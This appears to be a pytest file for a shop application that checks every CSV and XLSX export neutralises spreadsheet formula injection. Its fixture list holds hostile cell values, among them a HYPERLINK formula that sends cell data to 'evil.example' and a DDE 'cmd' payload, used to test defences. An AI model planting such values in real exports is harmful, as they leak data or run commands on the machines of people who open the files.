"""Every export in the shop writes texts a spreadsheet would run as a formula as plain text.

OWASP's rule (dianpu.core.tables.neutralise_cell): a cell that begins with =, +, -, @, a tab or a
carriage return gets a leading single quote; XLSX cells are strings, never formulas; genuine
numbers stay numbers. This file (1) finds every place that writes a CSV or XLSX and checks it
goes through the shared helper, and (2) runs each export with a product name, a tag, a brand, a
customer name and an audit text that are formulas, and reads the file back.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from dianpu.core.tables import (
    FORMULA_TRIGGERS,
    Column,
    Table,
    csv_lines,
    neutralise_cell,
    restore_cell,
    to_csv,
    to_xlsx,
    xlsx_file,
)

ROOT = Path(__file__).resolve().parents[2] / "dianpu"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]

# Every module that writes a CSV or XLSX, and the export(s) it serves. A new writer must be added
# here (and to the tests below) and use dianpu.core.tables' helpers.
WRITERS = {
    "core/tables.py": "console list tables (?export=csv|xlsx), analytics exports, reports (XLSX attachments)",
    "catalog/spreadsheets.py": "product export (native, Shopify, WooCommerce; CSV, XLSX), import error report",
    "inventory/exports.py": "daily inventory sheet (console, API, e-mail)",
    "channels/connectors/shopify.py": "tracking numbers for Shopify (console, API)",
    "promotions/console/views.py": "coupon batch codes (CSV)",
}
# Writers of files that are *read* by dianpu, never handed to a person's spreadsheet.
INPUT_WRITERS = {
    "system/demo/operations.py": "the Shopify orders file the demo imports",
    "system/demo/channels.py": "the Taobao goods and orders files the demo imports",
}
HELPERS = ("csv_value", "neutralise_row", "neutralise_cell", "xlsx_value")
WRITER_PATTERN = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter")


def test_every_csv_and_xlsx_writer_is_known_and_uses_the_shared_helper():
    found = {}
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if "/tests/" in f"/{relative}" or relative.startswith("core/testing"):
            continue
        text = path.read_text(encoding="utf-8")
        if WRITER_PATTERN.search(text):
            found[relative] = text
    assert set(found) == set(WRITERS) | set(INPUT_WRITERS), "a new CSV/XLSX writer: neutralise its cells"
    for relative in WRITERS:
        assert any(h in found[relative] for h in HELPERS), relative


def is_safe(value) -> bool:
    """What a spreadsheet shows as text or a number, never runs."""
    if not isinstance(value, str):
        return True
    return not value.startswith(FORMULA_TRIGGERS) or re.fullmatch(r"[+-]?\d+(\.\d+)?", value) is not None


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
            cells.append([c.value for c in row])
    return cells


def assert_neutralised(rows, *expected: str):
    flat = [c for row in rows for c in row]
    unsafe = [c for c in flat if not is_safe(c)]
    assert not unsafe, unsafe
    for text in expected:
        assert "'" + text in flat, (text, flat)


# --- the helper ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("-12.50", "-12.50"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("纯棉T恤", "纯棉T恤"),
        ("", ""),
        ("a=b", "a=b"),
        (Decimal("-3.20"), Decimal("-3.20")),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_the_owasp_way_and_numbers_stay_numbers(value, written):
    assert neutralise_cell(value) == written
    if isinstance(value, str):
        assert restore_cell(neutralise_cell(value)) == value  # our own files import back unchanged


def hostile_table() -> Table:
    rows = [{"name": text, "amount": Decimal("-3.20"), "count": -5} for text in HOSTILE]
    return Table(
        "t",
        "表",
        [Column("name", "名称"), Column("amount", "金额", numeric=True), Column("count", "数量", numeric=True)],
        rows,
    )


def test_console_tables_analytics_exports_and_reports_write_text_not_formulas():
    assert_neutralised(csv_cells(b"".join(csv_lines(hostile_table()))), *HOSTILE)
    assert_neutralised(csv_cells(to_csv(hostile_table())), *HOSTILE)
    for data in (xlsx_file(hostile_table()), to_xlsx(hostile_table())):
        rows = xlsx_cells(data)
        assert_neutralised(rows, *HOSTILE)
        assert rows[1][1:] == [-3.2, -5]  # numbers stay numbers


def test_the_shopify_tracking_file_writes_text_not_formulas():
    from dianpu.channels.connectors.shopify import write_fulfillments

    data = write_fulfillments([(text, "SF123", "顺丰", "https://x") for text in HOSTILE]).encode()
    assert_neutralised(csv_cells(data), *HOSTILE)


def test_the_product_file_writers_write_text_not_formulas():
    from dianpu.catalog.spreadsheets import write_csv, write_xlsx

    rows = [[text, "59.00", -1] for text in HOSTILE]
    assert_neutralised(csv_cells(write_csv(["name", "price", "n"], rows)), *HOSTILE)
    assert_neutralised(xlsx_cells(write_xlsx(["name", "price", "n"], rows)), *HOSTILE)


# --- end to end, through the pages, the API and the e-mail --------------------------------------------


@pytest.fixture
def hostile_shop(db):
    from dianpu.catalog.tests.builders import make_product
    from dianpu.orders.tests.builders import ADDRESS, place_test_order

    product = make_product(name=HOSTILE[0], tags=[HOSTILE[1]], brand=HOSTILE[3], skus=["EVIL-1"], stock=20)
    order = place_test_order({"EVIL-1": 1}, address={**ADDRESS, "name": HOSTILE[2]})
    return product, order


def operator_api(role: str = "owner") -> tuple[Client, dict]:
    from dianpu.accounts.tests.builders import make_staff, token_for

    return Client(), {"HTTP_AUTHORIZATION": f"Bearer {token_for(make_staff(role))}"}


@pytest.mark.parametrize("file_format", ["native", "shopify", "woocommerce"])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_product_exports_in_every_format_write_text_not_formulas(hostile_shop, file_format, kind):
    client, headers = operator_api()
    response = client.get(f"/api/v1/product-exports?file_format={file_format}&kind={kind}", **headers)
    assert response.status_code == 200
    rows = csv_cells(response.content) if kind == "csv" else xlsx_cells(response.content)
    assert_neutralised(rows, HOSTILE[0], HOSTILE[3])
    flat = [c for row in rows for c in row]
    assert any(isinstance(c, str) and c.startswith("'" + HOSTILE[1]) for c in flat)  # the tag


def test_an_exported_product_file_imports_back_unchanged(hostile_shop, tmp_path):
    from dianpu.catalog import imports
    from dianpu.catalog.models import Product

    client, headers = operator_api()
    for kind in ("csv", "xlsx"):
        data = client.get(f"/api/v1/product-exports?file_format=native&kind={kind}", **headers).content
        report = imports.import_products(data=data, filename=f"p.{kind}")
        assert (report.products_updated, report.variants_updated, report.variants_unchanged) == (0, 0, 1)
    assert Product.objects.get().name == HOSTILE[0]


def test_the_daily_inventory_sheet_writes_text_not_formulas(hostile_shop, mailoutbox):
    client, headers = operator_api()
    response = client.get("/api/v1/inventory-sheets/daily.xlsx", **headers)
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert_neutralised(xlsx_cells(body), HOSTILE[0])


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_console_list_exports_write_text_not_formulas(hostile_shop, admin_client, kind):
    orders = admin_client.get(reverse("console:orders:order-list") + f"?export={kind}")
    rows = csv_cells(b"".join(orders.streaming_content)) if kind == "csv" else xlsx_cells(orders.content)
    assert_neutralised(rows, HOSTILE[2])
    audit = admin_client.get(reverse("console:audit:entry-list") + f"?export={kind}")
    rows = csv_cells(b"".join(audit.streaming_content)) if kind == "csv" else xlsx_cells(audit.content)
    assert_neutralised(rows)
    assert any(isinstance(c, str) and c.startswith("'" + HOSTILE[0]) for row in rows for c in row)  # the object


def test_the_e_mailed_inventory_sheet_and_the_report_attachments_write_text_not_formulas(hostile_shop, mailoutbox):
    from dianpu.accounts.tests.builders import make_staff
    from dianpu.analytics.reports import ensure_reports
    from dianpu.inventory.notifications import send_daily_sheet

    warehouse = make_staff("warehouse")
    warehouse.email = "wh@example.com"
    warehouse.save()
    assert send_daily_sheet() == 1
    ((_name, content, _type),) = mailoutbox[-1].attachments
    assert_neutralised(xlsx_cells(content), HOSTILE[0])
    for report in ensure_reports(send=False):
        xlsx_cells(bytes(report.xlsx))  # no formula anywhere in any report


def test_a_workbook_written_by_hand_would_have_run_the_formula():
    """The failure this file guards against: openpyxl turns a text that begins with = into a formula."""
    book = Workbook()
    book.active.append([HOSTILE[0]])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).active["A1"].data_type == "f"
